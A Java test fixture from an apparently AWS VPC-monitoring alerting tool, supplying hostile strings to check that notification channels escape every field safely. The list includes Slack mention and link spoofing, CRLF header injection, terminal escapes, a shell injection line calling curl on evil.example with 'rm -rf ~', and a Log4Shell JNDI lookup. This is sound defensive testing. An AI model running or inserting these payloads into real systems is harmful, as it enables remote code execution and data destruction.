package io.vpcwatch.alerting.channel;

import io.vpcwatch.alerting.ViolationFixture;
import io.vpcwatch.alerting.notification.FailureSummary;
import io.vpcwatch.alerting.notification.IncidentUpdate;
import io.vpcwatch.alerting.notification.Message;
import io.vpcwatch.alerting.notification.Notification;
import io.vpcwatch.alerting.notification.text.Language;
import io.vpcwatch.alerting.notification.text.MessageRenderer;
import io.vpcwatch.model.Actor;
import io.vpcwatch.model.Attachment;
import io.vpcwatch.model.Delivery;
import io.vpcwatch.model.Delivery.Notice;
import io.vpcwatch.model.DeliveryBuilder;
import io.vpcwatch.model.End;
import io.vpcwatch.model.Violation;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Stream;

/** Texts with which an attacker might attack the readers of a channel, in every field of a call. */
public final class Hostile {
  private static final List<String> TEXTS =
      List.of(
          "<!channel> <!here> <@U012AB3CD> <!subteam^SAZ94GDB8>",
          "<https://evil.example|https://console.aws.amazon.com>",
          "`code` ```block``` *bold* _it_ ~gone~ :rotating_light:",
          "first\r\nBcc: everybody@example.com\r\n\r\n2026-11-23 INFO all is well",
          "\u001b[2J\u001b[31mred\u001b]0;title\u0007\u009b31m\b\b\b",
          "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200d\ufeff\u2028\u2029",
          "\ud800 lonely \udc00 \u0000",
          "&lt;!channel&gt; &amp;",
          "$(curl evil.example) `id` ; rm -rf ~ \" ' \\",
          "{0} {1,number} ${jndi:ldap://evil.example/a} %s %n",
          "<".repeat(100_000),
          "x".repeat(100_000),
          "😀".repeat(50_000),
          "",
          " ");

  private static final MessageRenderer WORDING = new MessageRenderer(Language.EN);

  private Hostile() {}

  /** Messages with each of the texts in each of the fields. */
  public static Stream<Message> messages() {
    return TEXTS.stream()
        .flatMap(text -> Stream.concat(notifications(text), Stream.of(failure(text))))
        .map(WORDING::of);
  }

  private static Stream<Notification> notifications(String text) {
    Actor nice = ViolationFixture.DEPLOYER;
    return Stream.of(
            new Actor(text, nice.type(), null, nice.sourceAddress(), nice.userAgent()),
            new Actor(null, text, null, null, null),
            new Actor(null, nice.type(), text, nice.sourceAddress(), nice.userAgent()),
            new Actor(nice.arn(), nice.type(), null, text, nice.userAgent()),
            new Actor(nice.arn(), nice.type(), null, nice.sourceAddress(), text),
            new Actor(text, text, text, text, text))
        .flatMap(actor -> notifications(actor, text));
  }

  /** The reply of another destination. */
  private static Notification failure(String text) {
    return FailureSummary.of(
        DeliveryBuilder.builder()
            .violationId("v1")
            .channel("other")
            .functionArn(ViolationFixture.FUNCTION)
            .notice(Notice.OPENED)
            .outcome(Delivery.Outcome.FAILED)
            .reason(Failure.MESSAGE_REJECTED.label())
            .detail(text)
            .attempts(1)
            .at(ViolationFixture.OPENED_AT)
            .build(),
        ViolationFixture.OPENED_AT);
  }

  private static Stream<Notification> notifications(Actor actor, String text) {
    Attachment network =
        new Attachment(
            Attachment.State.ATTACHED,
            text,
            new TreeSet<>(
                List.of(text, text + "2", text + "3", text + "4", text + "5", text + "6")),
            new TreeSet<>(List.of(text)),
            null);
    ViolationFixture fixture =
        ViolationFixture.violation().by(actor).before(network).after(network);
    return Stream.of(
        notification(Notice.OPENED, fixture.opened()),
        notification(Notice.RESOLVED, fixture.resolved(End.VPC_ATTACHED, actor)),
        notification(Notice.RESOLVED, fixture.retracted()));
  }

  /** In English. */
  public static Message message(Notice notice, Violation violation) {
    return WORDING.of(notification(notice, violation));
  }

  public static Notification notification(Notice notice, Violation violation) {
    return IncidentUpdate.of(violation.id(), notice, 1, null, violation);
  }
}
